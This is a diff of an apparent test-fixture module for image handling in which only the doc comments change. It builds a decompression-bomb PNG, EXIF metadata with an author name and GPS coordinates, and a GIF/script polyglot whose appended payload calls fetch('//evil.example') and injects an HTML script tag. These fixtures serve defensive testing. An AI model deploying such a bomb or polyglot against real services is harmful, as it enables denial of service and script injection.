@@ -1,7 +1,7 @@
 import { crc32, createDeflate } from 'node:zlib'
 import sharp from 'sharp'
 
-/** A picture with something to see in it, and with what a camera adds. */
+/** Returns an opaque image with noise. */
 export function photo(width = 800, height = 500) {
   return sharp({
     create: {
@@ -20,13 +20,13 @@ export function logo(width = 300, height = 300) {
   })
 }
 
-/** Where it was taken is nobody's business. */
+/** EXIF data with an author and a location, which must not be published. */
 export const withPlace = {
   IFD0: { Copyright: 'Anna Andersson' },
   IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '59/1 19/1 0/1', GPSLongitudeRef: 'E' },
 }
 
-/** A PNG of so many white pixels, a bit each: far larger unpacked than packed. */
+/** Returns a decompression bomb: a 1-bit PNG that is far larger decoded than encoded. */
 export async function bomb(side = 30_000): Promise<Buffer> {
   const header = Buffer.alloc(13)
   header.writeUInt32BE(side, 0)
@@ -62,7 +62,7 @@ export const svg = Buffer.from(
 
 const script = '*/=1;fetch("//evil.example");/*<html><script>alert(1)</script></html>'
 
-/** A GIF that is a script, too: what follows its first bytes is a comment to one who reads it so. */
+/** Returns a polyglot: a valid GIF followed by script and HTML. */
 export async function gifAndScript(): Promise<Buffer> {
   return Buffer.concat([await photo(60, 40).gif().toBuffer(), Buffer.from(script)])
 }
